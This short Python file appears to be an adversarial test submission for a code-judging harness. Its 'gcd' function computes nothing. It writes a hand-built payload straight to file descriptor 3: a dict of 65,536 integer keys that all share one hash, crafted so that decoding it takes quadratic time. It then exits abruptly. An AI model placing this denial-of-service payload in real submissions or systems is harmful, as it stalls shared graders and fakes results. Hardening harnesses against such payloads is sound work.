# problem: call_gcd
# class: output
# A return value written straight to the result channel: a dict of 65,536 int keys that all
# share one hash value (building it as a dict or a set would cost quadratic time).
import os
import struct

M = (1 << 61) - 1


def gcd(a, b):
    n = 1 << 16
    parts = [b"d" + struct.pack("<I", n)]
    for i in range(1, n + 1):
        k = (M * i + 1).to_bytes(11, "little", signed=True)
        parts.append(b"I" + struct.pack("<I", 11) + k + b"N")
    body = b"".join(parts)
    os.write(3, struct.pack("<IB", len(body) + 1, ord("R")) + body)
    os._exit(0)
